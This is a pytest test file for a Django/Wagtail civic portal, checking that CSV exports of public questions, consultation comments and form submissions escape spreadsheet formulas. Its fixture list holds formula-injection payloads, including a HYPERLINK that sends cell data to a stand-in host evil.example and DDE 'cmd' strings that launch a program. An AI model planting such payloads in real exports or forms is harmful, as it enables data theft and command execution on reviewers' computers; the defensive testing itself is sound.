"""Every CSV export escapes spreadsheet formulas typed by the public (portal/spreadsheets.py)."""

import csv
import io

import pytest
from django.contrib.auth.models import User
from django.urls import reverse
from wagtail.contrib.forms.models import FormSubmission

from consultations.factories import (
    ConsultationCommentFactory,
    ConsultationIndexPageFactory,
    ConsultationPageFactory,
)
from portal.spreadsheets import spreadsheet_safe
from questions.factories import QuestionFactory, QuestionsPageFactory

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_leading_formula_character_is_quoted(formula):
    assert spreadsheet_safe(formula) == "'" + formula


def test_other_values_are_kept():
    assert spreadsheet_safe("Xin hỏi = bao nhiêu?") == "Xin hỏi = bao nhiêu?"
    assert spreadsheet_safe(-5) == -5
    assert spreadsheet_safe(None) is None
    assert spreadsheet_safe("") == ""


def _cells(response):
    body = b"".join(response.streaming_content).decode("utf-8")
    return [cell for row in csv.reader(io.StringIO(body)) for cell in row]


def _assert_no_formula(cells):
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "＝")), cell
    for formula in FORMULAS[:4]:
        assert "'" + formula in cells


@pytest.fixture
def admin_client(client, db):
    client.force_login(User.objects.create_superuser("so-admin", password="x"))
    return client


def test_questions_export(admin_client, home):
    page = QuestionsPageFactory(parent=home)
    for formula in FORMULAS[:4]:
        QuestionFactory(page=page, question=formula, name=formula)
    response = admin_client.get(reverse("questions:index") + "?export=csv")
    assert response.status_code == 200
    _assert_no_formula(_cells(response))


def test_consultation_comments_export(admin_client, home):
    draft = ConsultationPageFactory(parent=ConsultationIndexPageFactory(parent=home))
    for formula in FORMULAS[:4]:
        ConsultationCommentFactory(page=draft, comment=formula, name=formula)
    response = admin_client.get(reverse("consultation-comments:index") + "?export=csv")
    assert response.status_code == 200
    _assert_no_formula(_cells(response))


def test_form_submissions_export(admin_client, contact_page):
    for formula in FORMULAS[:4]:
        FormSubmission.objects.create(
            page=contact_page, form_data={"ho_va_ten": formula, "noi_dung": formula}
        )
    url = reverse("wagtailforms:list_submissions", args=[contact_page.pk]) + "?export=csv"
    response = admin_client.get(url)
    assert response.status_code == 200
    _assert_no_formula(_cells(response))
